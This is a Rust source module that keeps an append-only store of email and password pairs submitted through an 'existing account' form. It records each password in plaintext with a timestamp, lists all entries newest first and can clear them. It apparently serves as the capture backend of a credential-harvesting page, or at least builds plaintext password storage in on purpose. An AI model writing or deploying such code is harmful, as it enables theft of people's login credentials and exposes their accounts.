//! Append-only log of credentials submitted through the "existing account"
//! form.

use chrono::{SecondsFormat, Utc};
use serde::{Deserialize, Serialize};
use tracing::info;

use crate::error::RegistryError;
use crate::store::{keys, Edit, JsonStore};

/// One submission.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Credential {
    /// Submitted email.
    pub email: String,
    /// Submitted password.
    pub password: String,
    /// Submission time. RFC 3339 for new entries; older entries may hold a
    /// locale-formatted string, which is kept as-is.
    #[serde(rename = "date")]
    pub submitted_at: String,
}

/// The persisted credential log.
#[derive(Debug, Clone)]
pub struct CredentialLog {
    store: JsonStore,
}

impl CredentialLog {
    /// Create a log over the given store context.
    #[must_use]
    pub fn new(store: JsonStore) -> Self {
        Self { store }
    }

    /// Append a submission stamped with the current time.
    ///
    /// # Errors
    ///
    /// Returns [`RegistryError::Store`] if persisting fails.
    pub async fn record(&self, email: &str, password: &str) -> Result<Credential, RegistryError> {
        let credential = Credential {
            email: email.to_owned(),
            password: password.to_owned(),
            submitted_at: Utc::now().to_rfc3339_opts(SecondsFormat::Secs, true),
        };
        let entry = credential.clone();
        let total = self
            .store
            .update_list(keys::CREDENTIALS, move |log: &mut Vec<Credential>| {
                log.push(entry);
                Edit::Commit(log.len())
            })
            .await?;

        info!(email = %credential.email, total, "credential recorded");
        Ok(credential)
    }

    /// All submissions, newest first.
    ///
    /// # Errors
    ///
    /// Returns [`RegistryError::Store`] if reading fails.
    pub async fn list(&self) -> Result<Vec<Credential>, RegistryError> {
        let mut log: Vec<Credential> = self.store.get_list(keys::CREDENTIALS).await?;
        log.reverse();
        Ok(log)
    }

    /// Remove every submission.
    ///
    /// # Errors
    ///
    /// Returns [`RegistryError::Store`] if the delete fails.
    pub async fn clear_all(&self) -> Result<(), RegistryError> {
        self.store.remove(keys::CREDENTIALS).await?;
        info!("all credentials cleared");
        Ok(())
    }
}
